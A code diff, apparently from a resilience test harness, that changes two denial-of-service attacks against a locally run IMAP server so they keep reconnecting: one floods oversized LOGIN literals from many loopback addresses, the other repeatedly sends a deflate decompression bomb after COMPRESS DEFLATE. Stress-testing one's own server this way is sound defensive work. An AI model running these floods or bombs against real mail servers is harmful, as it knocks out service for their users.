@@ -313,25 +313,37 @@ async def attack_sieve(ctx: Context, stop: asyncio.Event) -> None:
 async def attack_literal(ctx: Context, stop: asyncio.Event) -> None:
     chunk = b"x" * (256 * 1024)
     size = 51380224
+    connections = 0
 
     async def one(i: int) -> int:
+        # An attacker reconnects when cut off, for as long as the attack lasts.
+        nonlocal connections
         sent = 0
-        reader, writer = await connect(ctx.port("imap"), source=f"127.0.1.{1 + i % 200}")
-        try:
-            await reader.readline()
-            writer.write(b"a LOGIN {%d+}\r\n" % size)
-            while sent < size and not stop.is_set():
-                writer.write(chunk)
-                await writer.drain()
-                sent += len(chunk)
-        except (OSError, ConnectionError):
-            pass
-        finally:
-            await close(writer)
+        while not stop.is_set():
+            try:
+                reader, writer = await connect(ctx.port("imap"), source=f"127.0.1.{1 + i % 200}")
+            except (OSError, TimeoutError):
+                await asyncio.sleep(0.1)
+                continue
+            connections += 1
+            try:
+                await reader.readline()
+                writer.write(b"a LOGIN {%d+}\r\n" % size)
+                done = 0
+                while done < size and not stop.is_set():
+                    writer.write(chunk)
+                    await writer.drain()
+                    done += len(chunk)
+                    sent += len(chunk)
+            except (OSError, ConnectionError):
+                pass
+            finally:
+                await close(writer)
         return sent
 
     sent = await asyncio.gather(*(one(i) for i in range(ctx.n(45))))
-    ctx.notes.append(f"{len(sent)} connections sent {sum(sent) / MIB:.0f} MiB in all")
+    ctx.notes.append(f"{ctx.n(45)} attackers, {connections} connections, "
+                     f"{sum(sent) / MIB:.0f} MiB written to their sockets")
 
 
 async def attack_data(ctx: Context, stop: asyncio.Event) -> None:
@@ -376,25 +388,29 @@ def deflate_bomb(inflated: int) -> bytes:
 
 async def attack_deflate(ctx: Context, stop: asyncio.Event) -> None:
     bomb = deflate_bomb(ctx.n(256) * MIB)
-    reader, writer = await imap_login(ctx.port("imaps"), ctx.tls, ATTACKER, ATTACKER_PASSWORD)
-    try:
-        writer.write(b"z COMPRESS DEFLATE\r\n")
-        answer = await imap_until(reader, b"z")
-        if not answer.startswith(b"z OK"):
-            ctx.notes.append(f"COMPRESS refused: {answer!r}")
-            return
-        started = time.perf_counter()
-        writer.write(bomb)
-        with contextlib.suppress(OSError, ConnectionError):
-            await writer.drain()
-            # Read (and discard) the compressed answers until the server is done or cuts us off.
-            while not stop.is_set():
-                if not await reader.read(65536):
-                    break
-        ctx.notes.append(f"{len(bomb) / 1024:.0f} KiB of deflate sent; attacker's connection "
-                         f"lasted {time.perf_counter() - started:.1f} s")
-    finally:
-        await close(writer)
+    rounds = 0
+    started = time.perf_counter()
+    while not stop.is_set():
+        reader, writer = await imap_login(ctx.port("imaps"), ctx.tls, ATTACKER,
+                                          ATTACKER_PASSWORD)
+        try:
+            writer.write(b"z COMPRESS DEFLATE\r\n")
+            answer = await imap_until(reader, b"z")
+            if not answer.startswith(b"z OK"):
+                ctx.notes.append(f"COMPRESS refused: {answer!r}")
+                return
+            rounds += 1
+            writer.write(bomb)
+            with contextlib.suppress(OSError, ConnectionError):
+                await writer.drain()
+                # Read (and discard) the compressed answers until the server cuts us off.
+                while not stop.is_set():
+                    if not await reader.read(65536):
+                        break
+        finally:
+            await close(writer)
+    ctx.notes.append(f"{rounds} bombs of {len(bomb) / 1024:.0f} KiB sent in "
+                     f"{time.perf_counter() - started:.1f} s (a new login each)")
 
 
 async def attack_handshake(ctx: Context, stop: asyncio.Event) -> None:
